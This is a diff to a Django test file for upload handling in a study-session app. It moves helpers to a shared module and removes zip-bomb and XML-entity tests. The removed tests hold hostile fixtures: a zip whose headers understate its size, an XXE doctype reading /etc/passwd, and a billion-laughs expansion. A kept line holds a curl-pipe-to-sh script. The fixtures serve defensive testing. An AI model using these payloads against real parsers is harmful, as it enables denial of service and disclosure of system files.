@@ -6,11 +6,6 @@ from __future__ import annotations
 
 import datetime as dt
 import io
-import struct
-import time
-import tracemalloc
-import zipfile
-import zlib
 from pathlib import Path
 
 import pytest
@@ -23,19 +18,21 @@ from django.utils.html import escape
 from sessions_app.forms.essays import EssayForm
 from sessions_app.forms.sessions import SessionMaterialForm
 from sessions_app.models import ReflectionEssay, SessionMaterial
-from sessions_app.services.essay_text import essay_file_read
-from sessions_app.services.uploads import material_file_read
 from tests.factories import ReflectionEssayFactory, StudySessionFactory
-from tests.sessions_app.files.essay_samples import (
+from tests.uploads import (
     HTML_BYTES,
+    PASSWD_LINE,
     TEXT_CN,
+    XXE,
     docx_bytes,
+    docx_with_document,
     pdf_bytes,
-    xlsx_bytes,
-    zip_bomb_docx_bytes,
+    post_essay,
+    post_material,
+    stored_files,
+    word_document,
 )
 
-PASSWD_LINE = "root:x:0:0"
 SCRIPT_BYTES = b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
 DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
 
@@ -51,23 +48,8 @@ def session(group, term):
     return StudySessionFactory(group=group, term=term, date=dt.date(2020, 3, 15), topic="学习专题")
 
 
-def stored_files(root: Path) -> list[Path]:
-    return [p for p in root.rglob("*") if p.is_file()]
-
-
 def url(name: str, group, *args) -> str:
     return reverse(f"sessions_app:{name}", args=[group.slug, *args])
-
-
-def post_essay(client, group, session, upload):
-    return client.post(
-        url("essay_create", group),
-        {"title": "学习心得", "kind": "reflection", "session": session.pk, "file": upload},
-    )
-
-
-def post_material(client, group, session, upload):
-    return client.post(url("material_upload", group, session.pk), {"title": "材料", "file": upload})
 
 
 # Each upload form: how to post to it, the form in the response, the rows it would write.
@@ -80,7 +62,7 @@ FORMS = {
 def upload_as(kind, client_for, member, secretary, group, session, upload):
     post, context_name, model = FORMS[kind]
     client = client_for(member if kind == "essay" else secretary)
-    response = post(client, group, session, upload)
+    response = post(client, group, session, file=upload)
     form = response.context[context_name] if response.context else None
     errors = form.errors.as_data().get("file", []) if form else []
     return response, errors, model
@@ -132,7 +114,8 @@ def test_a_file_under_the_limit_still_arrives_whole_through_the_temporary_direct
     settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
     settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
     content = docx_bytes([TEXT_CN * 50])
-    response = post_essay(client_for(member), group, session, SimpleUploadedFile("a.docx", content))
+    upload = SimpleUploadedFile("a.docx", content)
+    response = post_essay(client_for(member), group, session, file=upload)
     assert response.status_code == 302
     (stored,) = stored_files(media_root)
     assert stored.read_bytes() == content
@@ -226,7 +209,7 @@ def test_the_content_type_sent_with_an_upload_is_ignored_for_the_download(
         client,
         group,
         session,
-        SimpleUploadedFile("心得.docx", docx_bytes([TEXT_CN]), content_type="text/html"),
+        file=SimpleUploadedFile("心得.docx", docx_bytes([TEXT_CN]), content_type="text/html"),
     )
     essay = ReflectionEssay.objects.get()
     response = client.get(url("essay_file", group, essay.pk))
@@ -284,142 +267,15 @@ def test_content_disposition_cannot_be_broken_even_by_a_name_that_was_never_clea
 
 
 # --- 7. zip bombs and XML entities ---------------------------------------------------------------
-
-
-def lying_entry_zip(entries: dict[str, bytes], *, liar: str, real_bytes: int) -> bytes:
-    """A zip with `liar` holding real_bytes of zeros while claiming (size and CRC) to hold 1000.
-
-    zipfile checks only the declared size: it inflates the whole entry in one call, then
-    keeps the first 1000 bytes, whose CRC matches.
-    """
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, data in entries.items():
-            archive.writestr(name, data)
-        archive.writestr(liar, bytes(real_bytes))
-    data = bytearray(buffer.getvalue())
-    claimed_crc = struct.pack("<I", zlib.crc32(bytes(1000)))
-    claimed_size = struct.pack("<I", 1000)
-    # The local header (name at +30) and the central directory entry (name at +46).
-    for magic, name_at, crc_at, size_at in (
-        (b"PK\x03\x04", 30, 14, 22),
-        (b"PK\x01\x02", 46, 16, 24),
-    ):
-        at = _header_of(data, magic, name_at, liar.encode())
-        data[at + crc_at : at + crc_at + 4] = claimed_crc
-        data[at + size_at : at + size_at + 4] = claimed_size
-    return bytes(data)
-
-
-def _header_of(data: bytearray, magic: bytes, name_at: int, name: bytes) -> int:
-    at = data.find(magic)
-    while data[at + name_at : at + name_at + len(name)] != name:
-        at = data.find(magic, at + 1)
-    return at
-
-
-def docx_parts() -> dict[str, bytes]:
-    with zipfile.ZipFile(io.BytesIO(docx_bytes([TEXT_CN]))) as archive:
-        return {name: archive.read(name) for name in archive.namelist()}
-
-
-def docx_with_document(document_xml: bytes, **extra: bytes) -> bytes:
-    parts = docx_parts()
-    parts["word/document.xml"] = document_xml
-    parts.update({name.replace("__", "/"): data for name, data in extra.items()})
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, data in parts.items():
-            archive.writestr(name, data)
-    return buffer.getvalue()
-
-
-W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-
-
-def word_document(doctype: str, text: str) -> bytes:
-    return (
-        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}\n'
-        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
-        "</w:body></w:document>"
-    ).encode()
-
-
-XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-BILLION_LAUGHS = (
-    '<!DOCTYPE w:document [<!ENTITY lol "lol">'
-    + "".join(
-        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
-        for i in range(1, 10)
-    )
-    + "]>"
-)
-
-HOSTILE_DOCX = {
-    "zip-bomb-declared": (zip_bomb_docx_bytes, "docx_too_large"),
-    "zip-bomb-lying-about-its-size": (
-        lambda: lying_entry_zip(docx_parts(), liar="word/media/image1.png", real_bytes=300 << 20),
-        "docx_too_large",
-    ),
-    "zip-bomb-lying-document-xml": (
-        lambda: lying_entry_zip(
-            {k: v for k, v in docx_parts().items() if k != "word/document.xml"},
-            liar="word/document.xml",
-            real_bytes=300 << 20,
-        ),
-        "docx_too_large",
-    ),
-    "xxe-file": (lambda: docx_with_document(word_document(XXE, "&xxe;")), "docx_dtd"),
-    "billion-laughs": (
-        lambda: docx_with_document(word_document(BILLION_LAUGHS, "&lol9;")),
-        "docx_dtd",
-    ),
-    "xxe-in-utf16": (
-        lambda: docx_with_document(
-            word_document(XXE, "&xxe;").decode().replace("UTF-8", "UTF-16").encode("utf-16")
-        ),
-        "docx_dtd",
-    ),
-    "entities-in-a-part-not-named-xml": (
-        lambda: docx_with_document(
-            word_document("", TEXT_CN), customXml__item1__bin=word_document(XXE, "&xxe;")
-        ),
-        "docx_dtd",
-    ),
-}
-
-
-@pytest.mark.parametrize("attack", sorted(HOSTILE_DOCX))
-def test_docx_bombs_and_entity_declarations_are_refused_in_bounded_time_and_memory(attack, capsys):
-    make, code = HOSTILE_DOCX[attack]
-    content = make()
-    assert len(content) < 2 * 1024 * 1024
-    tracemalloc.start()
-    started = time.perf_counter()
-    try:
-        with pytest.raises(Exception) as info:
-            essay_file_read(SimpleUploadedFile("心得.docx", content))
-    finally:
-        seconds = time.perf_counter() - started
-        peak = tracemalloc.get_traced_memory()[1]
-        tracemalloc.stop()
-    with capsys.disabled():
-        print(
-            f"\n{attack}: {len(content) / 1024:.0f} KB refused in {seconds * 1000:.0f} ms, "
-            f"peak {peak / 2**20:.1f} MB traced"
-        )
-    assert getattr(info.value, "code", None) == code, info.value
-    assert PASSWD_LINE not in str(info.value)
-    # A runaway inflates hundreds of MB and takes seconds; the refusal reads 64 KB at a time.
-    assert peak < 40 * 2**20
-    assert seconds < 3
+# Read without a page, in bounded time and memory: tests/intake/test_office_packages.py.
 
 
 def test_a_docx_with_a_doctype_is_refused_on_the_page_with_a_clear_message(
     media_root, client_for, member, group, session
 ):
     content = docx_with_document(word_document(XXE, "&xxe;"))
-    response = post_essay(client_for(member), group, session, SimpleUploadedFile("a.docx", content))
+    upload = SimpleUploadedFile("a.docx", content)
+    response = post_essay(client_for(member), group, session, file=upload)
     (error,) = response.context["form"].errors.as_data()["file"]
     assert error.code == "docx_dtd"
     assert escape(error.messages[0]) in response.content.decode()
@@ -428,42 +284,19 @@ def test_a_docx_with_a_doctype_is_refused_on_the_page_with_a_clear_message(
     assert stored_files(media_root) == []
 
 
-def test_a_material_whose_content_types_part_lies_about_its_size_is_refused_quickly():
-    # Materials are stored, not parsed; only [Content_Types].xml is read to tell the kind.
-    parts = {"xl/workbook.xml": b"<x/>"}
-    content = lying_entry_zip(parts, liar="[Content_Types].xml", real_bytes=300 << 20)
-    tracemalloc.start()
-    started = time.perf_counter()
-    try:
-        with pytest.raises(Exception) as info:
-            material_file_read(SimpleUploadedFile("表.xlsx", content))
-    finally:
-        seconds = time.perf_counter() - started
-        peak = tracemalloc.get_traced_memory()[1]
-        tracemalloc.stop()
-    assert info.value.code == "not_type"
-    assert peak < 40 * 2**20
-    assert seconds < 3
-
-
-def test_ordinary_office_files_still_pass_the_package_checks():
-    assert essay_file_read(SimpleUploadedFile("a.docx", docx_bytes([TEXT_CN]))).text == TEXT_CN
-    assert material_file_read(SimpleUploadedFile("a.xlsx", xlsx_bytes())).extension == ".xlsx"
-
-
 # --- 8. downloads ----------------------------------------------------------------------------
 
 
 @pytest.fixture
 def essay_with_file(client_for, member, group, session):
-    post_essay(client_for(member), group, session, SimpleUploadedFile("心得.pdf", pdf_bytes()))
+    post_essay(client_for(member), group, session, file=SimpleUploadedFile("心得.pdf", pdf_bytes()))
     return ReflectionEssay.objects.get()
 
 
 @pytest.fixture
 def material_with_file(client_for, secretary, group, session):
     post_material(
-        client_for(secretary), group, session, SimpleUploadedFile("讲话.pdf", pdf_bytes())
+        client_for(secretary), group, session, file=SimpleUploadedFile("讲话.pdf", pdf_bytes())
     )
     return SessionMaterial.objects.get()
 
